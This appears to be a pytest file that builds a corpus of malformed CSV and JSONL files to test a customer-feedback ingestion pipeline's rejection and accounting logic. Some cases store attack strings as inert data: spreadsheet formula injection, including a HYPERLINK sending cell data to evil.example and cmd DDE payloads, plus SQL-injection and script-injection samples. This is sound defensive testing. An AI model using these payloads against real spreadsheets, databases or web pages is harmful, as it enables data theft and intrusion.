"""The bad-input corpus: every file is generated here, one per case, and ingested.

For each file every record is loaded, a duplicate, or rejected with the reason planted for it;
rows_read = rows_loaded + rows_duplicate + rows_rejected; a file that cannot be read at all is a
failed batch and the files after it are still ingested. The fast tests go through
cxtext.ingest.load.ingest_file; the slow one runs the whole corpus through the nightly flow.
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass, field

import pytest

from cxtext.config import make_source_spec
from cxtext.errors import SourceReadError
from cxtext.ingest.load import ingest_file
from cxtext.ingest.prepare import RAW_LIMIT
from tests.conftest import REVIEWS_SOURCE, write_config

REVIEW_HEADER = ["review_id", "submitted_at", "stars", "title", "text", "customer_id"]
SURVEY_HEADER = ["response_id", "responded_at", "nps", "comment"]
SOURCES = {  # the corpus's survey and social sources; "reviews" is conftest's REVIEWS_SOURCE
    "surveys": {
        "kind": "survey",
        "format": "csv",
        "pattern": "surveys-*.csv",
        "columns": {"id": "response_id", "created_at": "responded_at", "nps": "nps", "text": "comment"},
    },
    "social": {
        "kind": "social",
        "format": "jsonl",
        "pattern": "social-*.jsonl",
        "columns": {"id": "id", "created_at": "created_at", "text": "text", "customer_key": "user.handle"},
    },
}
EXTENSION = {"reviews": "csv", "surveys": "csv", "social": "jsonl"}
GOOD = "The parcel came on time."


@dataclass
class Case:
    """One generated file: what it holds and what ingest must make of it."""

    name: str
    source: str
    content: bytes
    loaded: int = 0
    rejects: dict[int, str] = field(default_factory=dict)  # line → reason
    duplicate: int = 0
    failed: str | None = None  # part of the error when the file cannot be read at all
    stored: dict[str, str] = field(default_factory=dict)  # record id → text as stored

    @property
    def file_name(self) -> str:
        return f"{self.source}-{self.name}.{EXTENSION[self.source]}"


def line(*fields) -> str:
    """One CSV record, quoted where needed."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(fields)  # quotes fields holding \r or \n
    return out.getvalue().removesuffix("\r\n")


def review(rid: str, text: str = GOOD, *, stars="4", when="2026-07-06 10:00", title="t") -> str:
    return line(rid, when, stars, title, text, "C1")


def survey(rid: str, text: str = GOOD, *, nps="9", when="2026-07-06T10:00:00Z") -> str:
    return line(rid, when, nps, text)


def social(rid: str, text=GOOD, **more) -> str:
    return json.dumps({"id": rid, "created_at": "2026-07-06T10:00:00Z", "text": text, "user": {"handle": "@c1"}} | more)


def csv_bytes(header: list[str], lines: list[str], end: str = "\n") -> bytes:
    return (end.join([",".join(header), *lines]) + end).encode()


def verbatim(name: str, texts: list[str]) -> Case:
    """Texts that are odd but valid: each is loaded and stored exactly as written."""
    ids = [f"{name}{i}" for i in range(len(texts))]
    return Case(
        name,
        "reviews",
        csv_bytes(REVIEW_HEADER, [review(i, t) for i, t in zip(ids, texts)]),
        loaded=len(texts),
        stored=dict(zip(ids, texts)),
    )


def corpus() -> list[Case]:
    deep_inside = '{"id": "J7", "created_at": "2026-07-06T10:00:00Z", "text": "ok", "meta": ' + "[" * 500 + "]" * 500 + "}"
    jsonl = [
        social("J1").encode(),
        b'{"id": "J2", "created_at": ',
        b"[1, 2]",
        b'{"id": "J4", "text": "caf\xe9"}',
        b"",
        ("[" * 100_000 + "]" * 100_000).encode(),
        deep_inside.encode(),
        b'{"id": "J8", "created_at": "2026-07-06T10:00:00Z", "text": "lone \\ud800 escape"}',
        social("J9", {"body": "an object"}).encode(),
        b"null",
        social("J11").encode() + b"\r",
    ]
    return [
        Case(
            "invalid_utf8",
            "reviews",
            csv_bytes(REVIEW_HEADER, []) + b"U1,2026-07-06 10:00,4,t,caf\xe9 au lait,C1\n" + review("U2").encode() + b"\n",
            loaded=1,
            rejects={2: "invalid_utf8"},
        ),
        Case("bom", "reviews", b"\xef\xbb\xbf" + csv_bytes(REVIEW_HEADER, [review("B1"), review("B2")]), loaded=2),
        Case("crlf", "reviews", csv_bytes(REVIEW_HEADER, [review("C1"), review("C2")], end="\r\n"), loaded=2),
        Case(
            "mixed_line_ends",
            "reviews",
            "\r\n".join([",".join(REVIEW_HEADER), review("M1")]).encode()
            + b"\n"
            + review("M2").encode()
            + b"\r"
            + review("M3").encode()
            + b"\r\n",
            loaded=3,
        ),
        Case(
            "quoted_newlines",
            "reviews",
            csv_bytes(REVIEW_HEADER, [review("Q1", "first line\r\nsecond line"), review("Q2", 'a "quoted"\nword')]),
            loaded=2,
            stored={"Q1": "first line\nsecond line", "Q2": 'a "quoted"\nword'},
        ),
        Case(
            "unbalanced_quote",
            "reviews",
            csv_bytes(REVIEW_HEADER, ['O1,2026-07-06 10:00,4,t,"never closed,C1', review("O2"), review("O3", "x, y")]),
            loaded=2,
            rejects={2: "unbalanced_quote"},
        ),
        Case(
            "missing_and_extra_columns",
            "reviews",
            csv_bytes(REVIEW_HEADER, ["F1,2026-07-06 10:00,4,t", review("F2") + ",surplus", review("F3")]),
            loaded=1,
            rejects={2: "field_count", 3: "field_count"},
        ),
        Case(
            "empty_and_whitespace_text",
            "reviews",
            csv_bytes(
                REVIEW_HEADER,
                [
                    review("E1", ""),
                    review("E2", "   "),
                    review("E3", "\t \t"),
                    review("E4", "\u200b\u200c\u2060"),
                    review("E5"),
                ],
            ),
            loaded=1,
            rejects={2: "missing_text", 3: "missing_text", 4: "missing_text", 5: "missing_text"},
        ),
        Case(
            "one_megabyte_text",
            "reviews",
            csv_bytes(REVIEW_HEADER, [review("L1", ("slow delivery " * 80_000)[: 1 << 20]), review("L2")]),
            loaded=1,
            rejects={2: "text_too_long"},
        ),
        Case("binary_named_csv", "reviews", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), failed="binary"),
        Case("utf16", "reviews", csv_bytes(REVIEW_HEADER, [review("W1")]).decode().encode("utf-16"), failed="UTF-16"),
        Case(
            "missing_mapped_column",
            "reviews",
            csv_bytes(["review_id", "when", "stars", "title", "body", "customer_id"], [review("X1")]),
            failed="submitted_at",
        ),
        Case("empty_file", "reviews", b""),
        Case("header_only", "reviews", csv_bytes(REVIEW_HEADER, [])),
        Case(
            "dates",
            "reviews",
            csv_bytes(
                REVIEW_HEADER,
                [
                    review("D1", when="yesterday"),
                    review("D2", when="2026-02-30 10:00"),
                    review("D3", when=""),
                    review("D4", when="2999-01-01 10:00"),
                    review("D5", when="1970-01-01 00:00"),
                    review("D6"),
                    review("D7", when="0001-01-01 00:00"),
                    review("D8", when="1989-12-31 23:00"),
                    review("D9", when="1990-01-01 00:00"),
                ],
            ),
            loaded=2,
            rejects={
                2: "bad_created_at",
                3: "bad_created_at",
                4: "missing_created_at",
                5: "future_created_at",
                6: "implausible_created_at",
                8: "implausible_created_at",
                9: "implausible_created_at",
            },
        ),
        Case(
            "field_sizes",
            "reviews",
            csv_bytes(
                [*REVIEW_HEADER, "note"],
                [
                    review("Z1", title="t" * 10_001) + ",n",
                    review("Z2") + "," + "n" * 10_001,
                    review("Z3") + ",n",
                    review("Z4", "x" * 10_001) + ",n",
                ],
            ),
            loaded=2,
            rejects={2: "field_too_long", 3: "field_too_long"},
        ),
        Case(
            "two_large_fields",
            "reviews",
            csv_bytes(
                [*REVIEW_HEADER, "a", "b"],
                [
                    review("G1") + "," + "a" * 2_100_000 + "," + "b" * 2_100_000,
                    review("G2") + ",a,b",
                    review("G3") + ',"' + "a\n" * 1_100_000 + '","' + "b\n" * 1_100_000 + '"',
                    review("G4") + ",a,b",
                ],
            ),
            loaded=2,
            rejects={2: "record_too_large", 4: "record_too_large"},
        ),
        Case(
            "nul_byte_early",
            "reviews",
            csv_bytes(REVIEW_HEADER, [review("N0", "nul\x00here"), *(review(f"N{i}") for i in range(1, 999))]),
            loaded=998,
            rejects={2: "nul_byte"},
        ),
        Case(
            "wide_header",
            "reviews",
            csv_bytes(
                [*REVIEW_HEADER, *(f"c{i}" for i in range(30_000))],
                [review("H1") + "," * 30_000, review("H2") + "," * 29_999],
            ),
            loaded=1,
            rejects={3: "field_count"},
        ),
        Case(
            "inch_mark_beside_multiline",
            "reviews",
            csv_bytes(REVIEW_HEADER, ['I1,2026-07-06 10:00,4,12" screen,"arrived\ncracked",C1', review("I2")]),
            loaded=2,
            stored={"I1": "arrived\ncracked"},
        ),
        Case(
            "large_jsonl_line",
            "social",
            (social("K1", "x", meta="m" * 4_100_000) + "\n" + social("K2") + "\n").encode(),
            loaded=1,
            rejects={1: "record_too_large"},
        ),
        Case(
            "stars",
            "reviews",
            csv_bytes(
                REVIEW_HEADER,
                [
                    review("S1", stars="0"),
                    review("S2", stars="4.5"),
                    review("S3", stars="6"),
                    review("S4", stars="five"),
                    review("S5", stars=""),
                    review("S6", stars="5"),
                ],
            ),
            loaded=2,
            rejects={2: "out_of_range", 3: "out_of_range", 4: "out_of_range", 5: "bad_number"},
        ),
        Case(
            "nps",
            "surveys",
            csv_bytes(
                SURVEY_HEADER,
                [
                    survey("N1", nps="11"),
                    survey("N2", nps="-1"),
                    survey("N3", nps="ten"),
                    survey("N4", nps="10"),
                    survey("N5", nps="0"),
                    survey("N6", nps=""),
                ],
            ),
            loaded=3,
            rejects={2: "out_of_range", 3: "out_of_range", 4: "bad_number"},
        ),
        Case(
            "duplicate_ids",
            "reviews",
            csv_bytes(
                REVIEW_HEADER,
                [
                    review("R1", "first version"),
                    review("R2"),
                    review("R1", "second version"),
                    review("R1", "second version"),
                ],
            ),
            loaded=2,
            duplicate=1,
            rejects={2: "conflicting_duplicate_id"},
            stored={"R1": "second version"},
        ),
        Case(
            "broken_jsonl",
            "social",
            b"\n".join(jsonl) + b"\n",
            loaded=2,
            rejects={
                2: "invalid_json",
                3: "not_an_object",
                4: "invalid_utf8",
                6: "invalid_json",
                7: "invalid_json",
                8: "invalid_json",
                9: "not_text",
                10: "not_an_object",
            },
        ),
        verbatim(
            "formula_injection",
            [
                '=HYPERLINK("http://evil.example/?d="&A1,"click")',
                "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "=1+1",
            ],
        ),
        verbatim("sql_looking", ["Robert'); DROP TABLE feedback;--", "' OR '1'='1", "1; DELETE FROM rejects WHERE true"]),
        verbatim(
            "html_and_script",
            [
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                '<b>bold</b> &amp; <a href="javascript:alert(1)">x</a>',
            ],
        ),
        verbatim(
            "rtl_and_zero_width",
            ["التوصيل كان بطيئا جدا", "המשלוח איחר", "\u202eevil\u202c reversed", "zero\u200bwidth\u200djoiner"],
        ),
        verbatim("emoji_only", ["😡😡😡", "👍🏽", "🇬🇧"]),
        verbatim(
            "non_english",
            [
                "Der Versand war sehr langsam.",
                "配送が遅すぎる。",
                "Доставка опоздала на неделю.",
                "El envío llegó roto.",
            ],
        ),
    ]


CASES = corpus()


def specs(settings) -> dict:
    return {"reviews": settings.sources["reviews"]} | {
        name: make_source_spec(name, {k: v for k, v in spec.items() if k != "pattern"}) for name, spec in SOURCES.items()
    }


def batch_outcome(store, batch_id: int) -> dict:
    """What the batches and rejects tables say about one file."""
    status, read, loaded, duplicate, rejected, error = store.execute(
        "SELECT status, rows_read, rows_loaded, rows_duplicate, rows_rejected, error FROM ingest_batches WHERE batch_id = ?",
        [batch_id],
    )[0]
    rejects = store.execute("SELECT position, reason, detail, raw FROM rejects WHERE batch_id = ? ORDER BY position", [batch_id])
    assert all(detail and raw for _, _, detail, raw in rejects), "every reject keeps a reason sentence and its raw record"
    return {
        "status": status,
        "read": read,
        "loaded": loaded,
        "duplicate": duplicate,
        "rejected": rejected,
        "error": error,
        "rejects": {position: reason for position, reason, _, _ in rejects},
    }


def check(case: Case, outcome: dict) -> None:
    if case.failed:
        assert outcome["status"] == "failed" and case.failed in outcome["error"] and outcome["read"] == 0
        return
    assert outcome["status"] == "loaded"
    assert outcome["read"] == outcome["loaded"] + outcome["duplicate"] + outcome["rejected"]
    assert outcome["rejects"] == case.rejects and outcome["rejected"] == len(case.rejects)
    assert (outcome["loaded"], outcome["duplicate"]) == (case.loaded, case.duplicate)


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_every_record_is_loaded_a_duplicate_or_rejected_with_its_reason(case, store, review_settings, tmp_path):
    path = tmp_path / "landing" / case.file_name
    path.write_bytes(case.content)
    spec = specs(review_settings)[case.source]
    if case.failed:
        with pytest.raises(SourceReadError, match=case.failed):
            ingest_file(store, review_settings, path, spec)
        batch_id = store.scalar("SELECT max(batch_id) FROM ingest_batches")
    else:
        batch_id = ingest_file(store, review_settings, path, spec).batch_id
    check(case, batch_outcome(store, batch_id))
    assert store.scalar("SELECT count(*) FROM feedback") == case.loaded
    for record_id, text in case.stored.items():
        assert store.scalar("SELECT text FROM feedback WHERE source_record_id = ?", [record_id]) == text
    longest = store.scalar("SELECT max(length(raw)) FROM rejects") or 0
    assert longest < RAW_LIMIT + 100  # a 1 MB record is kept cut, saying how much was cut


def test_the_corpus_in_one_go_loses_nothing_and_goes_on_after_unreadable_files(store, review_settings, tmp_path):
    all_specs = specs(review_settings)
    failed = 0
    for case in CASES:
        path = tmp_path / "landing" / case.file_name
        path.write_bytes(case.content)
        try:
            ingest_file(store, review_settings, path, all_specs[case.source])
        except SourceReadError:
            failed += 1
    assert failed == sum(1 for c in CASES if c.failed)
    read, accounted = store.execute(
        "SELECT sum(rows_read), sum(rows_loaded + rows_duplicate + rows_rejected) FROM ingest_batches"
    )[0]
    assert read == accounted == sum(c.loaded + c.duplicate + len(c.rejects) for c in CASES)
    assert store.scalar("SELECT count(*) FROM feedback") == sum(c.loaded for c in CASES)
    assert store.scalar("SELECT count(*) FROM rejects") == sum(len(c.rejects) for c in CASES)
    assert store.scalar("SELECT count(*) FROM ingest_batches") == len(CASES)


@pytest.mark.slow
def test_the_corpus_through_the_nightly_flow(tmp_path):
    """Every corpus file lands at once; the run completes, reports the unreadable files and
    accounts for every record of the others."""
    from cxtext.store.db import Store
    from cxtext_flows.nightly import nightly

    landing = tmp_path / "landing"
    landing.mkdir()
    extra = "".join(
        f'\n[sources.{name}]\nkind = "{s["kind"]}"\nformat = "{s["format"]}"\nlanding = "landing"\n'
        f'pattern = "{s["pattern"]}"\n[sources.{name}.columns]\n' + "".join(f'{k} = "{v}"\n' for k, v in s["columns"].items())
        for name, s in SOURCES.items()
    )
    config = write_config(tmp_path, REVIEWS_SOURCE.replace('pattern = "reviews*.csv"', 'pattern = "reviews-*.csv"') + extra)
    for case in CASES:
        (landing / case.file_name).write_bytes(case.content)
    result = nightly(config=str(config))
    assert result["files_new"] == len(CASES) and result["files_failed"] == sum(1 for c in CASES if c.failed)
    assert result["rows_read"] == result["rows_loaded"] + result["rows_duplicate"] + result["rows_rejected"]
    assert result["rows_loaded"] == result["enriched"] == sum(c.loaded for c in CASES)
    with Store.open(tmp_path / "state/cx.duckdb", read_only=True) as published:
        batches = dict(published.execute("SELECT file_name, batch_id FROM ingest_batches"))
        assert published.execute("SELECT status FROM runs") == [("completed",)]
        for case in CASES:
            check(case, batch_outcome(published, batches[case.file_name]))


def test_a_paused_upload_of_a_source_without_ids_loads_no_cut_record(store, review_settings, tmp_path):
    """The upload stops mid-line for longer than settle_seconds: the file is left (its last line
    has no line end); once complete it loads whole, and no cut record stays beside the full one.
    A file that really ends without a line end loads once it is an hour old."""
    import os
    import time
    from dataclasses import replace

    from cxtext.ingest.load import UNTERMINATED_GRACE_SECONDS, scan_landing

    spec = replace(
        review_settings.sources["reviews"],
        columns={k: v for k, v in review_settings.sources["reviews"].columns.items() if k != "source_record_id"},
    )
    settings = replace(review_settings, sources={"reviews": spec})
    path = tmp_path / "landing" / "reviews-upload.csv"
    complete = csv_bytes(REVIEW_HEADER, [review("P1"), review("P2", "The courier left the parcel in the rain.")])
    path.write_bytes(complete[:-20])
    scan = scan_landing(store, settings)
    assert scan.new == [] and scan.unsettled == [path]
    path.write_bytes(complete)
    [(_, found)] = scan_landing(store, settings).new
    ingest_file(store, settings, found, spec)
    assert sorted(r[0] for r in store.execute("SELECT text FROM feedback")) == sorted(
        [GOOD, "The courier left the parcel in the rain."]
    )

    unterminated = tmp_path / "landing" / "reviews-no-final-newline.csv"
    unterminated.write_bytes(csv_bytes(REVIEW_HEADER, [review("P3", "Fine.")]).rstrip(b"\n"))
    assert scan_landing(store, settings).unsettled == [unterminated]
    old = time.time() - UNTERMINATED_GRACE_SECONDS - 1
    os.utime(unterminated, (old, old))
    assert [p for _, p in scan_landing(store, settings).new] == [unterminated]


def test_a_taxonomy_pattern_with_a_regex_is_refused_when_loaded():
    """A REGEX token attribute could backtrack catastrophically on one word and hang enrichment
    every night: refused when the taxonomy is loaded, naming the theme."""
    import tomllib

    from cxtext.errors import ConfigError
    from cxtext.text.taxonomy import pack_path, parse_taxonomy

    data = tomllib.loads(pack_path("core").read_text(encoding="utf-8"))
    theme = data["themes"][0]
    theme["patterns"] = [*theme.get("patterns", []), [{"LOWER": "late"}, {"TEXT": {"regex": "^(a+)+$"}}]]
    with pytest.raises(ConfigError, match=f"{theme['id']}.*REGEX"):
        parse_taxonomy(data, version="t")


def test_an_error_quoting_the_file_is_redacted(store, review_settings, tmp_path):
    """A file without a header: its first data row is taken for one, and the missing-column
    error quotes it, in ingest_batches.error, the exception (logs, Prefect's state) and the result."""
    path = tmp_path / "landing" / "reviews-headerless.csv"
    path.write_text("R1,2026-07-06 10:00,4,t,call me on +44 20 7946 0958,jane.doe@example.com\n")
    with pytest.raises(SourceReadError) as raised:
        ingest_file(store, review_settings, path, review_settings.sources["reviews"])
    stored = store.scalar("SELECT error FROM ingest_batches")
    for message in (stored, str(raised.value)):
        assert "[EMAIL]" in message and "[PHONE]" in message and "jane" not in message and "7946" not in message
